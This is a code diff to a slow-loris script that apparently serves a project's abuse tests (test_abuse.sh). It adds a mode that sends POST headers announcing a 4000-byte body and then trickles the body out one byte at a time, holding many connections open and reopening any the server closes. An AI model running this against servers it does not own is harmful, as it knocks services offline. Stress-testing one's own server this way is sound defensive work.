@@ -3,7 +3,9 @@
 """slowloris.py: a slow-loris against an HTTP server, for test_abuse.sh.
 
 Keeps CONNS connections open from SRC to HOST:PORT; each sends a request line and then one more
-header line every INTERVAL seconds, never ending its headers. A connection the server closes
+header line every INTERVAL seconds, never ending its headers. With MODE "body" (an optional
+seventh argument; "headers" by default) each sends whole headers of a POST that announces a
+body of 4000 bytes, then one byte of it every INTERVAL seconds. A connection the server closes
 is opened again a second later (an attacker keeps the pressure on, without running out of
 ports). Runs SECONDS seconds, then prints
 one JSON object:
@@ -21,10 +23,13 @@ import sys
 import time
 
 HELD_S = 0.5
+FIRST_POST = (b"POST /client/v4/accounts/slow/pcaps HTTP/1.1\r\nHost: slow\r\n"
+              b"Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n")
 
 
 def main():
     src, host, port, conns, interval, seconds = sys.argv[1:7]
+    body = len(sys.argv) > 7 and sys.argv[7] == "body"
     port, conns = int(port), int(conns)
     interval, seconds = float(interval), float(seconds)
     sel = selectors.DefaultSelector()
@@ -70,7 +75,10 @@ def main():
         now = time.monotonic()
         for s, st in list(socks.items()):
             if now - st[1] >= interval:
-                line = b"GET /healthz HTTP/1.1\r\n" if st[1] == 0.0 else b"X-Slow: 1\r\n"
+                if body:
+                    line = FIRST_POST if st[1] == 0.0 else b"x"
+                else:
+                    line = b"GET /healthz HTTP/1.1\r\n" if st[1] == 0.0 else b"X-Slow: 1\r\n"
                 try:
                     s.send(line)
                     st[1] = now
